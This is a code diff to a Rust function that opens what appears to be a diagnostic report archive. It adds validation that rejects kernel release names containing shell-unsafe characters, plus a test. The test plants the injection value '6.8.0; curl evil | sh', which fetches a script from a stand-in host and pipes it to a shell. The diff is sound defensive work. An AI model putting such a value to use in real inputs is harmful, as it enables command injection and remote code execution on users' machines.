@@ -92,10 +92,21 @@ pub fn open(archive: impl Read) -> Result<Collected, ArchiveError> {
         None => return Err(ArchiveError::NotAReport),
     }
     let tool = value.get("tool").and_then(Value::as_str).map(plain).unwrap_or_default();
-    serde_json::from_value(without_controls(value)).map_err(|e| match is_newer(&tool) {
+    let collected: Collected = serde_json::from_value(without_controls(value)).map_err(|e| match is_newer(&tool) {
         true => ArchiveError::Newer(tool, e),
         false => ArchiveError::Form(e),
-    })
+    })?;
+    match unlikely_kernel(&collected.evidence) {
+        Some(name) => Err(ArchiveError::Strange(format!("a kernel called {name:?}"))),
+        None => Ok(collected),
+    }
+}
+
+/// A kernel whose name is none. Kernels' names stand in commands that people copy into a shell.
+fn unlikely_kernel(evidence: &Evidence) -> Option<&String> {
+    let kernels = &evidence.facts.kernels;
+    let mut all = kernels.installed.iter().map(|k| &k.release).chain(&kernels.running).chain(&kernels.next_boot);
+    all.find(|name| !name.chars().all(|c| c.is_ascii_alphanumeric() || "._+~-:@".contains(c)))
 }
 
 /// The texts in an archive, by their names. All of it is unpacked, so that its sum is held against it.
@@ -208,6 +219,13 @@ mod tests {
         let mut value = serde_json::to_value(collected()).expect("JSON");
         value["evidence"]["facts"]["os"]["name"] = "a\u{1b}[2Jb".into();
         assert_eq!(open(packed(&value).as_slice()).expect("a report").evidence.facts.os.name, "ab");
+    }
+
+    #[test]
+    fn a_kernels_name_is_no_command() {
+        let mut value = serde_json::to_value(collected()).expect("JSON");
+        value["evidence"]["facts"]["kernels"]["installed"][0]["release"] = "6.8.0; curl evil | sh".into();
+        assert!(matches!(open(packed(&value).as_slice()), Err(ArchiveError::Strange(_))));
     }
 
     #[test]
